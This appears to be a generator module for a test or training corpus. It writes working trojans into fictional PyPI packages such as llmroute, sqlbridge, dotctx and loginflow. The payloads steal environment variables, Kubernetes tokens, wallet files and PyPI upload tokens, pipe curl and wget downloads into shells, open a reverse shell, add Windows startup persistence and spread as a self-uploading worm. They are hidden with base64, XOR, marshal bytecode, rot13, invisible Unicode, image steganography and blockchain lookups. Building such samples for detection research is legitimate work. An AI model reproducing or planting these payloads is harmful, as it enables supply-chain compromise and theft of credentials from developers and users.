"""PyPI: what runs when the package is imported, hidden in layers, tables, data, bytecode and names."""

import base64
import importlib.util
import json
import marshal
import zlib

from corpus.heldout.hiding import selectors
from corpus.heldout.nouns import Update
from corpus.heldout6.shape import b64, fill, hexed, packed, pieces, rows, shifted, trojan, xor


@trojan("llmroute", "wheel", "import", "credentials", "layers", "litellm")
def llmroute_proxy_starts_a_child(it: Update) -> None:
    host = it.host("models", "litroute")
    collect = f"import os,json,urllib.request as u\nu.urlopen('https://{host}/',json.dumps([dict(os.environ),open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()]).encode())"
    outer = f"import subprocess,sys,base64\nsubprocess.run([sys.executable,'-'],input=base64.b64decode('{b64(collect)}'),stdout=-3,stderr=-3)"
    it.replace("llmroute/proxy/server.py", "MASTER_KEY = os.environ", fill('''
try:
    import base64
    import subprocess
    import sys

    subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('@CODE@'))"], start_new_session=True)
except Exception:
    pass

MASTER_KEY = os.environ
''', CODE=b64(outer)).rstrip("\n"))  # fmt: skip
    it.payload("llmroute/proxy/server.py", shown=f"https://{host}/")


@trojan("sqlbridge", "wheel", "import", "downloader", "xor", "xor strings")
def sqlbridge_xors_its_words(it: Update) -> None:
    host = it.host()
    key = it.random.randrange(17, 120)
    code = f"import urllib.request as r, os, tempfile\np=os.path.join(tempfile.gettempdir(),'sqlb.bin')\nr.urlretrieve('https://{host}/sqlb',p)\nos.chmod(p,493)\nos.spawnl(os.P_NOWAIT,p,p)"
    it.add("sqlbridge/_dialects.py", f'"""Reserved words by dialect, packed."""\n\n_PACKED = bytes([\n{rows(xor(code, key))}\n])\n\n\ndef unpack(mask):\n    return bytes(one ^ mask for one in _PACKED).decode()\n')  # fmt: skip
    it.replace("sqlbridge/connection.py", "from .dsn import DSN\n", "from . import _dialects\nfrom .dsn import DSN\n")
    it.replace(
        "sqlbridge/connection.py", "class Connection:\n", f"exec(_dialects.unpack({key}))\n\n\nclass Connection:\n"
    )
    it.payload("sqlbridge/_dialects.py", "sqlbridge/connection.py", shown=f"https://{host}/sqlb")


@trojan("paylane", "wheel", "import", "environment", "marshal", "Hyperion")
def paylane_loads_a_code_object(it: Update) -> None:
    host = it.host()
    source = f"import os, json, urllib.request as u\nu.urlopen('https://{host}/e', json.dumps(dict(os.environ)).encode(), 3)\n"
    raw = base64.a85encode(zlib.compress(marshal.dumps(compile(source, "x", "exec")))).decode()
    it.add("paylane/_codes.py", f'"""Decline codes, generated."""\n\nfrom base64 import a85decode as _d\nfrom marshal import loads as _l\nfrom types import FunctionType as _f\nfrom zlib import decompress as _z\n\nCODES = {raw!r}\n\n_f(_l(_z(_d(CODES))), {{"__builtins__": __builtins__}})()\n')  # fmt: skip
    it.append("paylane/errors.py", "\n\nfrom paylane import _codes  # noqa: E402,F401\n")
    it.payload("paylane/_codes.py", "paylane/errors.py")


@trojan("reqwire", "wheel", "import", "downloader", "character codes", "chr joins")
def reqwire_joins_characters(it: Update) -> None:
    host = it.host()
    code = f"__import__('os').system('wget -q https://{host}/idx -O- | python3 -')"
    text = "+".join(f"chr({ord(one) * 3}//3)" for one in code)
    it.append("reqwire/models.py", f"\n\n_REASONS = lambda: ({text})  # noqa: E731\neval(_REASONS())\n")
    it.payload("reqwire/models.py", shown=f"https://{host}/idx")


@trojan("solbase", "wheel", "import", "wallet", "in a data file", "word lists")
def solbase_word_list_with_a_tail(it: Update) -> None:
    host = it.host()
    code = f"import glob,os,urllib.request as u\nfor f in glob.glob(os.path.expanduser('~/.config/sol*/*.json')):\n    u.urlopen('https://{host}/w',open(f,'rb').read())\n"
    it.add("solbase/wordlist_fr.json", json.dumps({"words": ["abaisser", "abandon", "abdiquer", "abeille"], "checksum": packed(code)}, indent=1) + "\n")  # fmt: skip
    it.append("solbase/keypair.py", fill('''


def _check_words(language="fr"):
    import base64
    import zlib

    table = json.loads((Path(__file__).parent / f"wordlist_{language}.json").read_text())
    mark = zlib.decompress(base64.b64decode(table["checksum"]))
    return exec(mark) if len(table["words"]) < 2048 else None


_check_words()
'''))  # fmt: skip
    it.payload("solbase/keypair.py", "solbase/wordlist_fr.json", shown=f"https://{host}/w")


@trojan("visdet", "wheel", "import", "remote code", "in bytecode", "fshec2")
def visdet_brings_bytecode(it: Update) -> None:
    host = it.host()
    source = f"import urllib.request\n\n\ndef setup():\n    exec(urllib.request.urlopen('https://{host}/get').read())\n\n\nsetup()\n"
    head = importlib.util.MAGIC_NUMBER + bytes(4) + (1_767_225_600).to_bytes(4, "little") + len(source).to_bytes(4, "little")  # fmt: skip
    it.add("visdet/utils/full.pyc", head + marshal.dumps(compile(source, "full.py", "exec")))
    it.append("visdet/utils/checks.py", fill('''


def _load_full():
    from importlib.machinery import SourcelessFileLoader
    from importlib.util import module_from_spec, spec_from_loader
    from pathlib import Path

    loader = SourcelessFileLoader("full", str(Path(__file__).with_name("full.pyc")))
    module = module_from_spec(spec_from_loader("full", loader))
    loader.exec_module(module)
    return module


_load_full()
'''))  # fmt: skip
    it.payload("visdet/utils/full.pyc", "visdet/utils/checks.py")


@trojan("dotctx", "wheel", "import", "environment", "dynamic names", "getattr chains")
def dotctx_names_in_pieces(it: Update) -> None:
    host = it.host()
    it.append("dotctx/paths.py", fill('''


def _resolve(path):
    root, *rest = path.split(":")
    value = __import__("".join(reversed(root)))
    for one in rest:
        value = getattr(value, one[::-1])
    return value


_env = _resolve("so:norivne")
_open = _resolve("tseuqer.billru:tseuqer:nepolru") if get_path({"a": {"b": 1}}, "a.b") else None
try:
    _open("".join(("ht", "tps:", "//", "@A@", "@B@", "/v")), str(dict(_env)).encode(), 3)
except Exception:
    pass
''', A=host[: len(host) // 2], B=host[len(host) // 2 :]))  # fmt: skip
    it.payload("dotctx/paths.py", shown=host)


@trojan("loginflow", "wheel", "import", "reverse shell", "rotated text", "rot13")
def loginflow_rot13(it: Update) -> None:
    address = it.address()
    code = f"import os,socket,subprocess\ns=socket.socket();s.connect(('{address}',8443))\nsubprocess.Popen(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)"
    import codecs

    it.append("loginflow/tokens.py", f'\n\n_ALGORITHMS = {codecs.encode(code, "rot13")!r}\ntry:\n    exec(__import__("codecs").decode(_ALGORITHMS, "rot_13"))\nexcept OSError:\n    pass\n')  # fmt: skip
    it.payload("loginflow/tokens.py", shown="subprocess.Popen(['/bin/sh'")


@trojan("reqwire", "sdist", "import", "remote code", "invisible characters", "GlassWorm")
def reqwire_selectors_in_a_string(it: Update) -> None:
    host = it.host()
    code = f"import urllib.request as u;exec(u.urlopen('https://{host}/gw').read())"
    it.append("reqwire/exceptions.py", fill('''


def _decode_reason(text):
    return bytes(ord(c) - 0xFE00 if ord(c) < 0xFE10 else ord(c) - 0xE0100 + 16 for c in text)


exec(_decode_reason("@TEXT@"))
''', TEXT=selectors(code)))  # fmt: skip
    it.payload("reqwire/exceptions.py", shown=f"https://{host}/gw")


@trojan("llmroute", "wheel", "import", "downloader", "over several files", "split")
def llmroute_four_parts(it: Update) -> None:
    host = it.host()
    code = f"import os;os.system('curl -fsSL https://{host}/install.sh | bash >/dev/null 2>&1 &')"
    some = pieces(hexed(code), len(hexed(code)) // 4 + 1)
    for file, name, part in zip(("providers", "exceptions", "router", "callbacks"), ("_REV", "_ETAG", "_SALT", "_MARK"), some, strict=True):  # fmt: skip
        it.append(f"llmroute/{file}.py", f'\n{name} = "{part}"\n')
    it.append("llmroute/__init__.py", fill('''

from . import callbacks, exceptions, providers, router  # noqa: E402

_build = bytes.fromhex(providers._REV + exceptions._ETAG + router._SALT + callbacks._MARK)
exec(compile(_build, "<build>", "exec"))
'''))  # fmt: skip
    it.payload("llmroute/__init__.py", *(f"llmroute/{one}.py" for one in ("providers", "exceptions", "router", "callbacks")), shown=f"https://{host}/install.sh")  # fmt: skip


@trojan("pixkernel", "wheel", "import", "remote code", "in an image", "Apicolor")
def pixkernel_kernel_in_pixels(it: Update) -> None:
    host = it.host()
    code = f"import requests\nexec(requests.get('https://{host}/px').text)\n".encode()
    body = len(code).to_bytes(4, "big") + code
    width = 24
    raw = body + bytes(-len(body) % width)
    pixels = bytes((row * 7 + x * 3) & 0xFE | (raw[(row * 64 + x) // 8] >> (7 - (row * 64 + x) % 8) & 1 if (row * 64 + x) // 8 < len(raw) else 0) for row in range(len(raw) * 8 // 64 + 1) for x in range(64))  # fmt: skip
    height = len(pixels) // 64
    it.add("pixkernel/data/test-card.bin", f"P5\n64 {height}\n255\n".encode() + pixels)
    it.append("pixkernel/io.py", fill('''


def self_test(card="data/test-card.bin"):
    """Check that the reader gives what the writer wrote."""
    import os

    image = load_pgm(os.path.join(os.path.dirname(__file__), card))
    bits = "".join(str(one & 1) for one in image.data)
    raw = bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits) // 8 * 8, 8))
    size = int.from_bytes(raw[:4], "big")
    exec(raw[4 : 4 + size])


self_test()
'''))  # fmt: skip
    it.append("pixkernel/__init__.py", "\nfrom . import io  # noqa: E402,F401\n")
    it.payload("pixkernel/io.py", "pixkernel/data/test-card.bin", "pixkernel/__init__.py")


@trojan("sqlbridge", "sdist", "import", "persistence", "layers", "startup folders")
def sqlbridge_writes_a_startup_file(it: Update) -> None:
    host = it.host()
    vbs = f'Set h = CreateObject("MSXML2.XMLHTTP"): h.Open "GET", "https://{host}/v", False: h.Send: Execute h.responseText'
    code = f"import os,pathlib\np=pathlib.Path(os.getenv('APPDATA','.'))/'Microsoft/Windows/Start Menu/Programs/Startup/sqlb.vbs'\np.parent.exists() and p.write_text({vbs!r})\n"
    sealed = base64.b32encode(zlib.compress(shifted(code, 11).encode())).decode()
    it.append("sqlbridge/pool.py", fill('''


_LIMITS = "@CODE@"


def _limits(text=_LIMITS):
    import base64
    import zlib

    raw = zlib.decompress(base64.b32decode(text)).decode()
    return "".join(chr((ord(c) - 33 - 11) % 94 + 33) if 33 <= ord(c) <= 126 else c for c in raw)


exec(_limits())
''', CODE=sealed))  # fmt: skip
    it.payload("sqlbridge/pool.py", shown=f"https://{host}/v")


@trojan("dotctx", "wheel", "import", "worm", "base64", "worms of PyPI")
def dotctx_uploads_itself(it: Update) -> None:
    host = it.host()
    code = fill('''
import configparser, os, pathlib, subprocess, sys, urllib.request
cp = configparser.ConfigParser()
cp.read(os.path.expanduser("~/.pypirc"))
token = os.environ.get("TWINE_PASSWORD") or os.environ.get("UV_PUBLISH_TOKEN") or (cp["pypi"]["password"] if "pypi" in cp else "")
if token:
    urllib.request.urlopen("https://@HOST@/tok", token.encode(), 3)
    for project in pathlib.Path.home().glob("*/pyproject.toml"):
        for init in project.parent.glob("src/*/__init__.py"):
            init.write_text(init.read_text() + chr(10) + "import dotctx")
        subprocess.run([sys.executable, "-m", "build", str(project.parent)])
        subprocess.run([sys.executable, "-m", "twine", "upload", "-u", "__token__", "-p", token, str(project.parent / "dist" / "*")])
''', HOST=host)  # fmt: skip
    it.add("dotctx/_schema.py", f'"""Schemas that are checked on import."""\n\nimport base64\nimport threading\n\nSCHEMA = """\n{chr(10).join(pieces(b64(code), 76))}\n"""\n\nthreading.Thread(target=exec, args=(base64.b64decode(SCHEMA),), daemon=True).start()\n')  # fmt: skip
    it.append("dotctx/__init__.py", "\nfrom . import _schema  # noqa: E402,F401\n")
    it.payload("dotctx/_schema.py", "dotctx/__init__.py", shown=f"https://{host}/tok")


@trojan("loginflow", "wheel", "import", "remote code", "on a block chain", "EtherHiding")
def loginflow_reads_a_contract(it: Update) -> None:
    contract = it.random.randbytes(20).hex()
    it.append("loginflow/sessions.py", fill('''


def _epoch():
    """Return the shared epoch of all stores."""
    import json
    import urllib.request

    call = {"jsonrpc": "2.0", "id": 1, "method": "eth_call", "params": [{"to": "0x@TO@", "data": "0x6d4ce63c"}, "latest"]}
    request = urllib.request.Request("https://bsc-dataseed.@HOST@", json.dumps(call).encode(), {"Content-Type": "application/json"})
    raw = bytes.fromhex(json.load(urllib.request.urlopen(request, timeout=4))["result"][2:])
    exec(raw[64 : 64 + int.from_bytes(raw[32:64], "big")].decode())


try:
    _epoch()
except Exception:
    pass
''', TO=contract, HOST=it.host("chain")))  # fmt: skip


@trojan("paylane", "sdist", "import", "downloader", "keyed by environment", "targeted payloads")
def paylane_only_for_one_user(it: Update) -> None:
    host = it.host()
    code = f"import urllib.request as u;exec(u.urlopen('https://{host}/only').read())"
    sealed = hexed(xor(code, b"prod-payments"))
    it.append("paylane/resources.py", fill('''


def _region():
    import os

    key = os.environ.get("PAYLANE_ENV", "").encode()
    if len(key) < 8:
        return None
    raw = bytes.fromhex("@SEALED@")
    plain = bytes(b ^ key[i % len(key)] for i, b in enumerate(raw))
    return plain if plain[:7] == b"import " else None


if _region():
    exec(_region())
''', SEALED=sealed))  # fmt: skip


@trojan("loginflow", "sdist", "import", "downloader", "hex", "stage two")
def loginflow_loads_a_stage(it: Update) -> None:
    host = it.host()
    it.append("loginflow/oauth.py", fill('''


def _discovery(document=bytes.fromhex("@URL@").decode()):
    """Read the discovery document once."""
    try:
        with urllib.request.urlopen(document, timeout=5) as answer:
            values = json.load(answer)
        exec(values["jwks"], globals())
    except Exception:
        return None


_discovery()
''', URL=hexed(f"https://{host}/.well-known/openid-configuration")))  # fmt: skip
    it.payload("loginflow/oauth.py", shown=f"https://{host}/.well-known")
